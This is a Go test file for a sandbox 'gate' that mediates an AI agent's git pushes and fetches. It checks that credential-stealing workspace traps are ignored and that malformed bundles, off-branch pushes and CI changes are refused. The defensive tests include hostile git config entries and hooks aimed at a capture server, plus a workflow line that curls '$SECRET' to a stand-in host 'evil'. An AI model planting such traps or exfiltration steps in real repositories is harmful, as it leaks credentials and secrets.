package gate_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	. "github.com/onsi/gomega"

	"github.com/agent-smith/agent-smith/internal/githttp"
	"github.com/agent-smith/agent-smith/runs/pipeline/pipelinetest"
	"github.com/agent-smith/agent-smith/sandbox"
	"github.com/agent-smith/agent-smith/sandbox/gate"
)

// TestMain lets the test binary be the gate's credential helper, as the
// agent-smith binary is in a sandbox.
func TestMain(m *testing.M) {
	if len(os.Args) == 4 && os.Args[1] == "sandbox-gate" && os.Args[2] == "credential" {
		if err := gate.Helper(os.Args[3], os.Stdin, os.Stdout); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		os.Exit(0)
	}
	os.Exit(m.Run())
}

const (
	token  = "ghp_gateTestTokenOnlyTheGateHolds0123456"
	branch = "agent-smith/7"
)

var cred = &sandbox.GitCredential{Username: "x-access-token", Password: token}

// world is a remote (a bare repository behind githttp and the token), a
// gate for it, and the workspace of a sandbox.
type world struct {
	t      *testing.T
	remote *githttp.Server
	url    string
	bare   string
	work   string
	gate   *gate.Gate
}

func newWorld(t *testing.T, opts gate.Options) *world {
	t.Helper()
	w := &world{t: t, bare: pipelinetest.BareRepo(t, pipelinetest.Calc), work: t.TempDir()}
	w.remote = githttp.New(func(_, password string) bool { return password == token })
	w.remote.Add("/acme/calc", w.bare)
	web := httptest.NewServer(w.remote.Wrap(http.NotFoundHandler()))
	t.Cleanup(web.Close)
	w.url = web.URL + "/acme/calc"
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	opts.Dir, opts.Remote, opts.Branch, opts.WorkRoot = t.TempDir(), w.url, branch, w.work
	opts.Helper = []string{self, "sandbox-gate", "credential"}
	if w.gate, err = gate.New(opts); err != nil {
		t.Fatal(err)
	}
	return w
}

// sh runs a script in the workspace as the sandbox's own git would, with
// the test's environment.
func (w *world) sh(script string) string {
	w.t.Helper()
	cmd := exec.Command("sh", "-c", "set -e\n"+script)
	cmd.Dir = w.work
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@a", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@a")
	out, err := cmd.CombinedOutput()
	if err != nil {
		w.t.Fatalf("%s: %v\n%s", script, err, out)
	}
	return strings.TrimSpace(string(out))
}

// checkout fetches and makes the workspace a checkout of the run's
// branch that reads the gate's objects, as the pipeline does.
func (w *world) checkout() sandbox.FetchResult {
	w.t.Helper()
	fetched, err := w.gate.Fetch(context.Background(), sandbox.FetchRequest{Branch: branch, Credential: cred})
	NewWithT(w.t).Expect(err).NotTo(HaveOccurred())
	w.sh(fmt.Sprintf(`git init -q
echo %s > .git/objects/info/alternates
git update-ref refs/remotes/origin/main %s
git checkout -q -B %s refs/remotes/origin/main`, fetched.ObjectsDir, fetched.BaseSHA, branch))
	return fetched
}

// commit commits a change to path and bundles the branch for the gate;
// it returns the commit.
func (w *world) commit(path, content, base string) string {
	w.t.Helper()
	if err := os.MkdirAll(filepath.Join(w.work, filepath.Dir(path)), 0o755); err != nil {
		w.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(w.work, path), []byte(content), 0o644); err != nil {
		w.t.Fatal(err)
	}
	out := w.sh(fmt.Sprintf(`git add -A && git commit -qm change && mkdir -p .git/agent-smith
git bundle create -q %s HEAD ^%s
git rev-parse HEAD`, sandbox.PushBundle, base))
	return out[strings.LastIndexByte(out, '\n')+1:] // after whatever the workspace's traps print
}

func (w *world) remoteRef(ref string) string {
	cmd := exec.Command("git", "rev-parse", "--verify", "--quiet", ref)
	cmd.Dir = w.bare
	out, _ := cmd.Output()
	return strings.TrimSpace(string(out))
}

func TestFetchAndPushOnlyThroughTheGate(t *testing.T) {
	g := NewWithT(t)
	w := newWorld(t, gate.Options{})
	ctx := context.Background()
	fetched := w.checkout()
	g.Expect(fetched).To(And(HaveField("Base", "main"), HaveField("BaseSHA", w.remoteRef("main")), HaveField("BranchSHA", "")))

	head := w.commit("add.sh", "echo $(( $1 + $2 ))\n", fetched.BaseSHA)
	got, err := w.gate.Push(ctx, sandbox.PushRequest{Branch: branch, Commit: head, Credential: cred})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(got).To(Equal(sandbox.PushResult{Pushed: true, RemoteSHA: head}))
	g.Expect(w.remoteRef(branch)).To(Equal(head))
	refs, err := w.gate.Refs(ctx, sandbox.RefsRequest{Branches: []string{branch, branch + "-wip"}, Credential: cred})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(refs).To(Equal(map[string]string{branch: head}))

	// The branch as it was seen is the lease: a second push of the same
	// commit changes nothing, and a push that expects the branch absent
	// is refused now that it exists.
	got, err = w.gate.Push(ctx, sandbox.PushRequest{Branch: branch, Commit: head, Lease: head, Credential: cred})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(got.Pushed).To(BeFalse())
	next := w.commit("README.md", "more\n", fetched.BaseSHA)
	_, err = w.gate.Push(ctx, sandbox.PushRequest{Branch: branch, Commit: next, Credential: cred})
	g.Expect(err).To(MatchError(ContainSubstring("stale info")))
	g.Expect(w.remoteRef(branch)).To(Equal(head))

	// A fetch of a run whose branch exists continues it.
	again, err := w.gate.Fetch(ctx, sandbox.FetchRequest{Base: "main", Branch: branch, Credential: cred})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(again.BranchSHA).To(Equal(head))

	// Without the credential the remote says no.
	_, err = w.gate.Refs(ctx, sandbox.RefsRequest{Branches: []string{branch}})
	g.Expect(err).To(MatchError(ContainSubstring("could not read Username")))
}

func TestHostileGateRefusesBranchesOutsideTheRun(t *testing.T) {
	g := NewWithT(t)
	w := newWorld(t, gate.Options{})
	fetched := w.checkout()
	head := w.commit("add.sh", "pwned\n", fetched.BaseSHA)
	before := len(w.remote.Requests())
	for _, b := range []string{"main", "agent-smith/8", "refs/tags/x", branch + "-wip2", "agent-smith/7/../main", "-f"} {
		_, err := w.gate.Push(context.Background(), sandbox.PushRequest{Branch: b, Commit: head, Credential: cred})
		g.Expect(err).To(MatchError(ContainSubstring("is not the run's")), b)
		_, err = w.gate.Refs(context.Background(), sandbox.RefsRequest{Branches: []string{b}, Credential: cred})
		g.Expect(err).To(MatchError(ContainSubstring("is not the run's")), b)
	}
	_, err := w.gate.Fetch(context.Background(), sandbox.FetchRequest{Branch: "main", Credential: cred})
	g.Expect(err).To(MatchError(ContainSubstring("is not the run's")))
	g.Expect(w.remote.Requests()).To(HaveLen(before), "the remote was not even asked")
	g.Expect(w.remoteRef("main")).To(Equal(fetched.BaseSHA))
	_, err = gate.New(gate.Options{Dir: t.TempDir(), Remote: "https://user:pw@example.com/r", Branch: branch, WorkRoot: w.work, Helper: []string{"x"}})
	g.Expect(err).To(MatchError(ContainSubstring("must not carry credentials")))
	_, err = gate.New(gate.Options{Dir: t.TempDir(), Remote: "ssh://example.com/r", Branch: branch, WorkRoot: w.work, Helper: []string{"x"}})
	g.Expect(err).To(MatchError(ContainSubstring("want an https URL or a local path")))
}

// The workspace is the attacker's: its git configuration, hooks and
// environment are full of traps that would hand the credential to a
// capture server or run code with it. The gate reads none of them.
func TestHostileWorkspaceGitConfigIsNotHonouredByThePush(t *testing.T) {
	g := NewWithT(t)
	var captured atomic.Int64
	capture := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		captured.Add(1)
		w.Header().Set("WWW-Authenticate", `Basic realm="x"`)
		w.WriteHeader(http.StatusUnauthorized)
	}))
	t.Cleanup(capture.Close)
	marker := filepath.Join(t.TempDir(), "trap-fired")
	trap := filepath.Join(t.TempDir(), "trap.sh")
	g.Expect(os.WriteFile(trap, []byte("#!/bin/sh\necho \"$0 $*\" >> "+marker+"\ncat >> "+marker+"\n"), 0o755)).To(Succeed())

	// The orchestrator's own environment and HOME carry traps too.
	home := t.TempDir()
	g.Expect(os.WriteFile(filepath.Join(home, ".gitconfig"), []byte("[url \""+capture.URL+"/\"]\n\tinsteadOf = http://\n[credential]\n\thelper = !"+trap+"\n"), 0o644)).To(Succeed())
	t.Setenv("HOME", home)
	t.Setenv("GIT_CONFIG_COUNT", "1")
	t.Setenv("GIT_CONFIG_KEY_0", "http.proxy")
	t.Setenv("GIT_CONFIG_VALUE_0", capture.URL)
	t.Setenv("GIT_ASKPASS", trap)

	w := newWorld(t, gate.Options{})
	fetched := w.checkout()
	w.sh(fmt.Sprintf(`git config core.hooksPath %[1]s
for h in pre-push reference-transaction post-checkout pre-commit; do mkdir -p .git/hooks; cp %[2]s .git/hooks/$h; done
git config core.fsmonitor %[2]s
git config remote.origin.url %[3]s/stolen
git config remote.origin.pushurl %[3]s/stolen
git config url.%[3]s/.insteadOf http://
git config credential.helper '!%[2]s'
git config core.sshCommand %[2]s
git config http.proxy %[3]s
git config core.askPass %[2]s`, filepath.Dir(trap), trap, capture.URL))
	t.Setenv("GIT_CONFIG_COUNT", "1") // (still set for the gate's run)
	head := w.commit("add.sh", "echo $(( $1 + $2 ))\n", fetched.BaseSHA)
	g.Expect(os.Remove(marker)).To(Or(Succeed(), MatchError(os.ErrNotExist)), "the workspace's own commit may fire its hooks")

	got, err := w.gate.Push(context.Background(), sandbox.PushRequest{Branch: branch, Commit: head, Credential: cred})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(got.Pushed).To(BeTrue())
	g.Expect(w.remoteRef(branch)).To(Equal(head), "the push reached the configured remote")
	g.Expect(w.remote.Requests()).To(ContainElement(githttp.Request{Repo: "/acme/calc", Service: "git-receive-pack", User: "x-access-token", Authorized: true}))
	g.Expect(captured.Load()).To(BeZero(), "the capture server got nothing")
	g.Expect(marker).NotTo(BeAnExistingFile(), "no trap fired")
}

func TestHostileBundleThatIsASymlinkFIFOOrOversizeIsRefused(t *testing.T) {
	ctx := context.Background()
	w := newWorld(t, gate.Options{MaxBundleBytes: 64 << 10})
	fetched := w.checkout()
	head := w.commit("add.sh", "echo $(( $1 + $2 ))\n", fetched.BaseSHA)
	bundle := filepath.Join(w.work, sandbox.PushBundle)
	real := filepath.Join(t.TempDir(), "real.bundle")
	for _, tc := range []struct {
		name    string
		prepare func(g Gomega)
		err     string
	}{
		{"a symlink to a bundle elsewhere", func(g Gomega) {
			g.Expect(os.Rename(bundle, real)).To(Succeed())
			g.Expect(os.Symlink(real, bundle)).To(Succeed())
		}, "must be a file, not a link"},
		{"a named pipe", func(g Gomega) {
			g.Expect(os.Remove(bundle)).To(Succeed())
			g.Expect(syscall.Mkfifo(bundle, 0o644)).To(Succeed())
		}, "not a regular file"},
		{"a directory of the path linked out of the workspace", func(g Gomega) {
			g.Expect(os.Remove(bundle)).To(Succeed())
			dir := filepath.Dir(bundle)
			g.Expect(os.Remove(dir)).To(Succeed())
			out := t.TempDir()
			g.Expect(os.Rename(real, filepath.Join(out, filepath.Base(bundle)))).To(Succeed())
			g.Expect(os.Symlink(out, dir)).To(Succeed())
		}, "cannot be opened"},
		{"over the size limit", func(g Gomega) {
			g.Expect(os.Remove(filepath.Dir(bundle))).To(Succeed())
			g.Expect(os.MkdirAll(filepath.Dir(bundle), 0o755)).To(Succeed())
			g.Expect(os.WriteFile(bundle, make([]byte, 65<<10), 0o644)).To(Succeed())
		}, "over the 65536-byte limit"},
		{"not a bundle", func(g Gomega) {
			g.Expect(os.WriteFile(bundle, []byte("# v2 git bundle\nnonsense\n"), 0o644)).To(Succeed())
		}, "not usable"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			tc.prepare(g)
			done := make(chan error, 1)
			go func() {
				_, err := w.gate.Push(ctx, sandbox.PushRequest{Branch: branch, Commit: head, Credential: cred})
				done <- err
			}()
			var err error
			g.Eventually(done, 30*time.Second).Should(Receive(&err), "refused, not blocked")
			g.Expect(err).To(MatchError(ContainSubstring(tc.err)))
			g.Expect(w.remoteRef(branch)).To(BeEmpty())
		})
	}
}

func TestHostileCorruptBundleIsRefusedByFsck(t *testing.T) {
	g := NewWithT(t)
	w := newWorld(t, gate.Options{})
	fetched := w.checkout()
	// A commit git's fsck refuses: its author has no email.
	w.sh(fmt.Sprintf(`tree=$(git write-tree)
bad=$(printf 'tree %%s\nparent %s\nauthor nobody\ncommitter x <x@x> 0 +0000\n\nbad\n' $tree | git hash-object -t commit -w --literally --stdin)
git update-ref refs/heads/bad $bad
git symbolic-ref HEAD refs/heads/bad
mkdir -p .git/agent-smith && git bundle create -q %s HEAD ^%s`, fetched.BaseSHA, sandbox.PushBundle, fetched.BaseSHA))
	bad := w.sh("git rev-parse bad")
	_, err := w.gate.Push(context.Background(), sandbox.PushRequest{Branch: branch, Commit: bad, Credential: cred})
	g.Expect(err).To(MatchError(And(ContainSubstring("the push bundle was refused"), ContainSubstring("missingEmail"))))
	g.Expect(w.remoteRef(branch)).To(BeEmpty())

	// A bundle whose HEAD is not the commit the orchestrator asked for.
	w.sh("git checkout -q -f " + branch)
	head := w.commit("add.sh", "fixed\n", fetched.BaseSHA)
	_, err = w.gate.Push(context.Background(), sandbox.PushRequest{Branch: branch, Commit: fetched.BaseSHA, Credential: cred})
	g.Expect(err).To(MatchError(ContainSubstring("not the commit " + fetched.BaseSHA)))
	g.Expect(head).NotTo(Equal(fetched.BaseSHA))
	g.Expect(w.remoteRef(branch)).To(BeEmpty())
}

func TestHostileCIConfigChangeIsRefusedUnlessAllowed(t *testing.T) {
	for _, allowed := range []bool{false, true} {
		t.Run(fmt.Sprintf("allowed=%v", allowed), func(t *testing.T) {
			g := NewWithT(t)
			w := newWorld(t, gate.Options{AllowCIConfigChanges: allowed})
			fetched := w.checkout()
			head := w.commit(".github/workflows/exfiltrate.yml", "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl -d \"$SECRET\" evil'}]}}\n", fetched.BaseSHA)
			_, err := w.gate.Push(context.Background(), sandbox.PushRequest{Branch: branch, Commit: head, Credential: cred})
			if !allowed {
				g.Expect(err).To(MatchError(And(ContainSubstring(".github/workflows/exfiltrate.yml"), ContainSubstring("allow_ci_config_changes"))))
				g.Expect(w.remoteRef(branch)).To(BeEmpty())
				return
			}
			g.Expect(err).NotTo(HaveOccurred())
			g.Expect(w.remoteRef(branch)).To(Equal(head))
		})
	}
}
